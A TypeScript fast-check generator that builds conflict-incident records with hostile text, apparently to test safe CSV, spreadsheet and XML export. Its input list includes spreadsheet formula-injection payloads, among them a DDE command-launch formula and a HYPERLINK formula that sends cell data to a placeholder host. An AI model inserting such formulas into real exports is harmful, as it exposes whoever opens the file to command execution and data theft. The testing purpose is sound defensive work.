import fc from 'fast-check';
import { type Incident, incident } from '../../src/incidents/incident.ts';

/** What a spreadsheet, a CSV or an XML reader could stumble over or obey. */
const hostile = [
  '=1+1',
  '=cmd|"/c calc"!A0',
  '=HYPERLINK("http://example.org?x="&A1,"press")',
  '+49 30 1234',
  '-2+3',
  '-5',
  '@SUM(A1:A9)',
  "'=1+1",
  "''-1",
  '＝1+1',
  'a,b;c\td',
  '"quoted"',
  'two\nlines',
  'two\r\nlines',
  '<b>&amp;</b>]]>',
  '_x000D_ and _x0041_',
  'null',
  'TRUE',
  '00123',
  '1e5',
  '2016-03',
  'مجهول',
  '👩‍👩‍👧‍👦',
  'e\u0301',
  '\u202eevil',
  '# no comment',
];

// XML knows neither control characters nor halves of a letter; what becomes of those has a test of its own.
const plain = (text: string) => [...text].every((c) => c >= ' ' || c === '\n') && text.isWellFormed();
const hostileText = fc
  .oneof(fc.constantFrom(...hostile), fc.string({ unit: 'grapheme', maxLength: 40 }).filter(plain))
  .map((text) => text.trim())
  .filter((text) => text.length > 0);

const maybe = <T>(what: fc.Arbitrary<T>) => fc.option(what, { nil: undefined });
const lat = fc.double({ min: -90, max: 90, noNaN: true }).map((n) => n + 0);
const lon = fc.double({ min: -180, max: 180, noNaN: true }).map((n) => n + 0);
const named = fc.record({ name: hostileText, lat, lon });
const day = fc.integer({ min: 0, max: 9000 }).map((n) => new Date(n * 86_400_000).toISOString().slice(0, 10));
const toll = fc.oneof(
  fc.tuple(...Array.from({ length: 3 }, () => fc.integer({ min: 0, max: 900 }))).map((all) => {
    const [low = 0, best = 0, high = 0] = all.sort((a, b) => a - b);
    return { low, best, high };
  }),
  fc.constantFrom('none reported' as const, 'number unknown' as const),
);

/** A record of any shape the model allows, its words hostile; ids are made by `idOf`. */
export const anyIncident = (idOf: fc.Arbitrary<string>): fc.Arbitrary<Incident> =>
  fc
    .record({
      kind: fc.constant('incident' as const),
      id: idOf,
      title: maybe(hostileText),
      summary: maybe(hostileText),
      when: fc.oneof(
        fc.tuple(day, day).map((days) => {
          const [start, end] = days.sort();
          return { start, end, precision: 'day' as const };
        }),
        fc.constant({ start: null, end: null, precision: 'unknown' as const }),
      ),
      where: fc
        .record({
          place: maybe(hostileText),
          admin1: maybe(hostileText),
          country: maybe(hostileText),
          at: maybe(fc.record({ lat, lon })),
          between: maybe(fc.tuple(named, named)),
          precision: fc.constantFrom('exact' as const, 'province' as const, 'unknown' as const),
        })
        .map(({ at, ...where }) => ({ ...where, ...at })),
      eventTypes: fc.uniqueArray(fc.constantFrom('battle', 'airstrike', 'arson'), { minLength: 1 }),
      actors: fc.array(
        fc.record({
          actor: hostileText,
          role: fc.constantFrom('attacker' as const, 'party' as const, 'target' as const),
        }),
        { maxLength: 3 },
      ),
      casualties: fc.array(
        fc.record({ group: fc.constantFrom('all', 'civilians'), killed: toll, by: maybe(hostileText) }),
        {
          maxLength: 2,
        },
      ),
      reports: fc.array(fc.record({ publisher: hostileText, headline: maybe(hostileText) }), { maxLength: 2 }),
      conflict: maybe(hostileText),
    })
    .map((told) => incident.parse(JSON.parse(JSON.stringify(told))));
